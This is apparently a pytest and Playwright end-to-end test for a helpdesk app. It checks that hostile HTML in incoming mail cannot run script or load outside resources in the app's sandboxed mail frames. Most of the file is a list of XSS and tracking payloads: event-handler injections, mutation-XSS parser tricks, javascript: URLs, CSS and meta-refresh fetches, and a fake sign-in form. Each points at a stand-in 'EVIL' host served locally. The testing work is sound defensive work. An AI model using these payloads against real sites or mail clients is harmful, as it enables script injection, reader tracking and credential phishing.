"""Hostile HTML in a real browser: nothing runs, nothing is fetched from elsewhere (mail-safety §3.F).

The payloads go into the database as they are, past the cleaner: the sandbox and the frame's policy have to
hold by themselves. A second round sends them through the cleaner, as every real mail goes.
"""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, expect
from sqlalchemy import select

from models.actions.messages import Received, receive_message
from models.actions.people import customer_for
from models.actions.tickets import open_ticket
from models.actor import MAIL_GATE
from models.database import db
from models.mailbox import Mailbox
from models.markup import clean_html
from tests.end_to_end.conftest import signed_in
from tests.end_to_end.web_desk import WebDesk, visit

PWN = "top.__pwn=1;parent.__pwn=1;window.__pwn=1;fetch('EVIL/fetched')"

PAYLOADS = (
    f"<script>{PWN}</script>",
    f"<script type=module>{PWN}</script>",
    "<script src=EVIL/s.js></script>",
    f'<img src=x onerror="{PWN}">',
    f'<svg onload="{PWN}"></svg>',
    f"<svg><script>{PWN}</script></svg>",
    f'<svg><animate onbegin="{PWN}" attributeName=x dur=1s>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f"<style><img src='</style><img src=x onerror=\"{PWN}\">'>",
    f"<title><img src='</title><img src=x onerror=\"{PWN}\">'>",
    f'<body onload="{PWN}">',
    f'<details open ontoggle="{PWN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{PWN}">',
    f'<select autofocus onfocus="{PWN}"></select>',
    f'<video><source onerror="{PWN}"></video>',
    f'<audio src=x onerror="{PWN}"></audio>',
    f'<marquee onstart="{PWN}">x</marquee>',
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    "<iframe src=EVIL/frame></iframe>",
    f'<object data="javascript:{PWN}"></object>',
    "<object data=EVIL/object></object>",
    "<embed src=EVIL/embed>",
    "<img src=EVIL/img.png>",
    '<img srcset="EVIL/srcset.png 1x, EVIL/srcset2.png 2x">',
    "<picture><source srcset=EVIL/picture.png><img src=x></picture>",
    "<video poster=EVIL/poster.png src=EVIL/v.mp4 autoplay></video>",
    "<audio autoplay src=EVIL/a.mp3></audio>",
    "<video><track default src=EVIL/t.vtt></video>",
    "<input type=image src=EVIL/input.png>",
    "<table background=EVIL/table.png><tr><td background=EVIL/td.png>x</table>",
    "<body background=EVIL/body.png>",
    '<link rel=stylesheet href="EVIL/style.css">',
    '<link rel=prefetch href="EVIL/prefetch"><link rel=preload as=image href="EVIL/preload.png">',
    '<link rel=dns-prefetch href="EVIL/"><link rel=preconnect href="EVIL/">',
    "<style>@import url(EVIL/import.css);</style>",
    "<style>@font-face{font-family:e;src:url(EVIL/font.woff2)}p{font-family:e}</style><p>x</p>",
    "<div style=\"background:url('EVIL/background.png')\">x</div>",
    "<div style=\"background-image:image-set('EVIL/set.png' 1x)\">x</div>",
    "<ul style='list-style:url(EVIL/bullet.png)'><li>x</ul>",
    "<p style='cursor:url(EVIL/cursor.png),auto'>x</p>",
    "<svg><use href='EVIL/use.svg#a'/><image href='EVIL/image.png'/></svg>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{PWN}'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'><img src=EVIL/csp.png>",
    "<base href=EVIL/><img src=relative.png>",
    f'<a id=x href="javascript:{PWN}" autofocus>click me</a>',
    "<a ping=EVIL/ping href=#>x</a>",
    "<form action=EVIL/form><input name=q><button autofocus>Session expired: sign in</button></form>",
    "<form id=f action=EVIL/auto></form><svg onload='f.submit()'>",
    f"<template><script>{PWN}</script></template>",
    f"<xmp><p title=\"</xmp><img src=x onerror='{PWN}'>\"></xmp>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over everything</div>",
    "<dialog open>fake</dialog><div popover id=p>x</div>",
)


class Evil(BaseHTTPRequestHandler):
    """A host that writes down whoever calls."""

    calls: list[str] = []

    def do_GET(self) -> None:
        self.calls.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def evil() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def hostile_ticket(desk: WebDesk, bodies: list[str]) -> int:
    with desk.app.app_context():
        eve = customer_for("eve@elsewhere.example", "<img src=x onerror=top.__pwn=1>")
        mailbox = db.session.scalars(select(Mailbox.id)).first()
        ticket = open_ticket(
            mailbox, eve, "eve@elsewhere.example", "<script>top.__pwn=1</script>", "x", MAIL_GATE
        )
        for body in bodies:
            said = Received(
                "<b onmouseover=top.__pwn=1>text</b>",
                eve.id,
                "</title><script>",
                "eve@elsewhere.example",
                body_html=body,
            )
            receive_message(ticket.id, said, MAIL_GATE)
        db.session.commit()
        return ticket.id


@pytest.mark.parametrize("through_the_cleaner", [False, True])
def test_nothing_of_a_hostile_mail_runs_or_is_fetched(
    browser: Browser, web_desk: WebDesk, evil: str, through_the_cleaner: bool
) -> None:
    bodies = [payload.replace("EVIL", evil) for payload in PAYLOADS]
    if through_the_cleaner:
        bodies = [clean_html(body).html or "<p>nothing was left</p>" for body in bodies]
    ticket_id = hostile_ticket(web_desk, bodies)
    Evil.calls.clear()
    dialogs: list[str] = []
    with visit(browser, web_desk.base) as seen:
        signed_in(seen, web_desk, "cleo")
        seen.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        seen.page.goto(f"{web_desk.base}/inbox/unassigned/t/{ticket_id}/?all")
        look_at_every_frame(seen.page, len(bodies))
        assert seen.page.evaluate("window.__pwn") is None
        assert seen.page.url.endswith("?all")
        expect(seen.page.locator("#subject")).to_have_text("<script>top.__pwn=1</script>")
        seen.page.goto(f"{web_desk.base}/inbox/unassigned/")
        assert seen.page.evaluate("window.__pwn") is None
    assert dialogs == []
    assert Evil.calls == []


def look_at_every_frame(page: Page, number: int) -> None:
    """Scroll to each, as they load only when they are seen; click into each, as a reader might."""
    frames = page.locator(".mail-frame")
    expect(frames).to_have_count(number)
    for index in range(number):
        frames.nth(index).scroll_into_view_if_needed()
        page.wait_for_timeout(60)
    page.wait_for_timeout(1500)  # refreshes and timers of theirs would have come by now
    loaded = page.evaluate(
        "[...document.querySelectorAll('.mail-frame')]"
        ".filter(frame => frame.contentDocument?.querySelector('.mail')).length"
    )
    assert loaded >= number - 2, "frames that did not load prove nothing"


def test_the_trap_would_be_noticed(browser: Browser, evil: str) -> None:
    """The same payloads in an open page do run and do fetch: so the test above can fail."""
    Evil.calls.clear()
    page = browser.new_page()
    page.goto(evil)
    page.set_content("".join(payload.replace("EVIL", evil) for payload in (PAYLOADS[3], PAYLOADS[24])))
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwn") == 1
    assert "/img.png" in Evil.calls
    page.close()


def test_a_frame_stands_alone_with_the_same_walls(browser: Browser, web_desk: WebDesk, evil: str) -> None:
    """Opened by itself, the document is still sandboxed: the header says so, not only the page around it."""
    ticket_id = hostile_ticket(
        web_desk, [f"<script>document.title='ran'</script><img src={evil}/alone.png><p>here</p>"]
    )
    Evil.calls.clear()
    with visit(browser, web_desk.base) as seen:
        signed_in(seen, web_desk, "cleo")
        seen.page.goto(f"{web_desk.base}/inbox/unassigned/t/{ticket_id}/")
        source = seen.page.locator(".mail-frame").first.get_attribute("src")
        seen.page.goto(web_desk.base + source)
        expect(seen.page.get_by_text("here")).to_be_visible()
        assert seen.page.title() == "Mail"
    assert Evil.calls == []
